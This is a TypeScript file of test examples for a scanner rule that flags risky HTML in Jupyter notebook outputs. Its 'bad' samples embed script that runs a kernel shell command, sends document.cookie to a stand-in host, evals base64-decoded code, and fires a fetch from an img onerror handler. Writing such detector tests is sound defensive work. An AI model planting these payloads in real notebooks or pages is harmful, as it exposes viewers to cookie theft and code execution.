import type { Example, RuleExamples } from '../../../model/rule.ts'

function withOutput(html: string): Example {
  const output = { output_type: 'display_data', data: { 'text/html': [html] }, metadata: {} }
  const cells = [{ cell_type: 'code', source: ['1'], outputs: [output], metadata: {}, execution_count: 1 }]
  return {
    path: 'demo.ipynb',
    bytes: Buffer.from(JSON.stringify({ cells, metadata: {}, nbformat: 4, nbformat_minor: 5 })),
  }
}

export const examples: RuleExamples = {
  bad: [
    withOutput(`<script>Jupyter.notebook.kernel.execute("import os; os.system('echo x')")</script>`),
    withOutput('<script>fetch("https://host.example/?c=" + document.cookie)</script>'),
    withOutput('<script>eval(atob("YWxlcnQoMSk="))</script>'),
    withOutput('<img src=x onerror="fetch(\'https://host.example\')">'),
  ],
  good: [
    withOutput('<script>window.PlotlyConfig = {MathJaxConfig: "local"};</script><div id="plot"></div>'),
    withOutput('<table><tr><td>1</td></tr></table>'),
  ],
}
